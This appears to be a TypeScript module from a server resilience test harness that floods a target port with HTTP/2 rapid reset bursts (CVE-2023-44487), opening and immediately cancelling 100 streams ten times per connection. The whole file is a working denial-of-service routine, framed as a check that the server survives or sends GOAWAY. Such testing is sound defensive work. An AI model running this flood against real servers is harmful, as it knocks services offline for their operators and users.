// HTTP/2 rapid reset (CVE-2023-44487): bursts of HEADERS immediately followed by RST_STREAM, on one
// connection per unit, 10 bursts of 100 streams. Whether the server survives is what counts; a
// server that ends the connection for it (GOAWAY) is doing its job.
import http2 from 'node:http2';
import { sleep, sourceAddress } from '../clients.ts';
import { flooder } from './flooder.ts';
import { closeSession, h2Session } from './h2-session.ts';

const BURSTS = 10;
const STREAMS = 100;

export const h2RapidReset = flooder('h2_rapid_reset', 'floods', 2_000, 2, async (port, i) => {
  const session = await h2Session(port, sourceAddress(31, i));
  if (session instanceof Error) return false;
  for (let b = 0; b < BURSTS && !session.destroyed; b++) {
    for (let k = 0; k < STREAMS && !session.destroyed; k++) {
      try {
        const req = session.request({ ':path': '/1k' });
        req.on('error', () => {});
        req.close(http2.constants.NGHTTP2_CANCEL);
      } catch {
        break; // the session went away mid-burst
      }
    }
    await sleep(10);
  }
  closeSession(session);
  return true;
});
